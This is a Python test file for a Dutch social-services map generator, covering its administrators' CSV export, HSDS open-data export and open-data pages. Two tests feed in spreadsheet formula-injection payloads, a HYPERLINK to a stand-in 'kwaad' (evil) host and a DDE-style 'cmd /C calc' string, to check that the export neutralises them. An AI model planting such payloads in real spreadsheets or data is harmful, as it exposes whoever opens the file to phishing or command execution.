"""The beheerders' CSV, `kaart export`, and the /open-data/ and profile pages."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

from hsds_schemas import errors

from generator.build.render import datum
from generator.cli import main
from generator.export.beheer_csv import KOLOMMEN
from generator.export.tabular import csv_text, geen_formule
from generator.export.hsds import SERVICE_SOORTEN
from generator.export.plekken import plekken
from generator.vocabulary import THEMAS, DOELGROEPEN
from support import MINI_KAART, ROOT


def read_beheer_csv(path) -> list[dict]:
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode("utf-8"))  # Excel reads the accents right
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_beheer_csv_has_one_row_per_record_and_place(demo, demo_site):
    rows = read_beheer_csv(demo_site / "open-data" / "sociale-kaart.csv")
    assert list(rows[0]) == KOLOMMEN
    expected = sum(max(1, len(plekken(r))) for soort in SERVICE_SOORTEN for r in demo.records[soort].values()) + len(demo.organisaties)
    assert len(rows) == expected
    for soort in SERVICE_SOORTEN:
        for record in demo.records[soort].values():
            mine = [row for row in rows if row["id"] == record.id and row["soort"] != "Organisatie"]
            assert [row["adres"] for row in mine if row["adres"]] == [p.adres.straat for p in plekken(record)]
            assert all(row["laatst_gecontroleerd"] == record.laatst_gecontroleerd.isoformat() for row in mine)
    services = json.loads((demo_site / "open-data" / "hsds" / "services.json").read_text(encoding="utf-8"))["contents"]
    assert {row["hsds_id"] for row in rows if row["soort"] != "Organisatie"} == {s["id"] for s in services}


def test_partner_text_never_becomes_a_spreadsheet_formula(mini_kaart, tmp_path):
    record = mini_kaart / "voorzieningen" / "formulierenhulp.yaml"
    record.write_text(record.read_text(encoding="utf-8").replace("naam: Formulierenhulp in de bibliotheek", "naam: '=HYPERLINK(\"https://kwaad.example\",\"Klik\")'"), encoding="utf-8")
    assert main(["export", "csv", "--kaart", str(mini_kaart), "--uit", str(tmp_path)]) == 0
    rows = read_beheer_csv(tmp_path / "sociale-kaart.csv")
    [cell] = [row["naam"] for row in rows if row["id"] == "formulierenhulp"]
    assert cell.startswith("'=HYPERLINK")
    assert [geen_formule(v) for v in ("+31 6", "-1", "@a", "gewoon", "")] == ["'+31 6", "'-1", "'@a", "gewoon", ""]
    # the open data (HSDS tables, read by programs) keeps numbers and phone numbers, and guards the rest
    assert [geen_formule(v, getallen=True) for v in ("+31 523 800 100", "-1.5", '=HYPERLINK("x")', "@SUM(1)", "+x", "gewoon")] == \
        ["+31 523 800 100", "-1.5", '\'=HYPERLINK("x")', "'@SUM(1)", "'+x", "gewoon"]


def test_kaart_export_hsds_writes_a_valid_export(tmp_path, capsys):
    assert main(["export", "hsds", "--kaart", str(MINI_KAART), "--uit", str(tmp_path), "--site-url", "https://kaart.example.nl"]) == 0
    assert "HSDS 3.0 geschreven naar" in capsys.readouterr().err
    index = json.loads((tmp_path / "index.json").read_text(encoding="utf-8"))
    assert index["profile"] == "https://kaart.example.nl/open-data/profiel/"
    services = json.loads((tmp_path / "services.json").read_text(encoding="utf-8"))["contents"]
    assert services and [e for s in services for e in errors("service", s)] == []
    assert (tmp_path / "tabular" / "datapackage.json").is_file()
    assert len(list((tmp_path / "services").glob("*.json"))) == len(services)


def test_kaart_export_on_a_broken_kaart_explains_in_dutch(mini_kaart, tmp_path, capsys):
    (mini_kaart / "voorzieningen" / "formulierenhulp.yaml").write_text("id: formulierenhulp\nnaam: [kapot\n", encoding="utf-8")
    assert main(["export", "hsds", "--kaart", str(mini_kaart), "--uit", str(tmp_path / "uit")]) == 1
    out = capsys.readouterr()
    assert "formulierenhulp.yaml:" in out.out and "fout(en) gevonden" in out.err and "Traceback" not in out.out + out.err
    assert not (tmp_path / "uit").exists()


def test_open_data_page_names_licence_build_date_and_working_links(demo_site):
    html = (demo_site / "open-data" / "index.html").read_text(encoding="utf-8")
    mkdocs = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    licentie = re.search(r"^\s+licentie: (.+)$", mkdocs, re.M).group(1)
    licentie_url = re.search(r"^\s+licentie_url: (.+)$", mkdocs, re.M).group(1)
    assert licentie in html and f'href="{licentie_url}"' in html
    assert f"Gemaakt op {datum(dt.date.today())}" in html
    links = re.findall(r'<ul class="sk-open-data">(.*?)</ul>', html, re.S)[0]
    targets = re.findall(r'href="([^"]+)"', links)
    assert len(targets) >= 7
    for target in targets:
        assert (demo_site / "open-data" / target).resolve().is_file(), target
    assert 'href="../open-data/"' in (demo_site / "over" / "index.html").read_text(encoding="utf-8")


def test_profile_page_lists_the_taxonomy_from_the_vocabulary(demo_site):
    html = (demo_site / "open-data" / "profiel" / "index.html").read_text(encoding="utf-8")
    for sleutel, codes in (("themas", THEMAS), ("doelgroepen", DOELGROEPEN)):
        section = html.split(f'id="taxonomie-{sleutel}"')[1].split("<h3")[0]
        assert all(f"<code>{code}</code>" in section for code in codes), sleutel
    for word in ("assured_date", "1SA", "interval", "valid_from", "feestdagen", "Wat we weglaten"):
        assert word in html


def test_partner_text_in_the_hsds_tables_never_becomes_a_formula():
    text = csv_text("service", [{"id": "x", "name": '=HYPERLINK("https://x.example/?"&A1;"Klik")', "description": "@SUM(1+1)*cmd|' /C calc'!A0"}])
    row = text.splitlines()[1]
    assert "'=HYPERLINK" in row and "'@SUM" in row


def test_two_rooms_at_one_address_get_their_own_location_ids():
    from types import SimpleNamespace

    from generator.export.plekken import plekken
    from generator.models import Adres

    adres = Adres(straat="Brink 1", postcode="7771 AA", plaats="Akkerveen")
    kamer = lambda naam: SimpleNamespace(adres=adres, naam=naam, kern=None, coordinaten=None, rolstoeltoegankelijk=None)  # noqa: E731
    record = SimpleNamespace(naam="Proef", locaties=[kamer("Zaal 1"), kamer("Zaal 2"), kamer("Zaal 3")])
    keys = [plek.sleutel for plek in plekken(record)]
    assert len(set(keys)) == 3 and keys[0] == keys[1].split("#")[0]
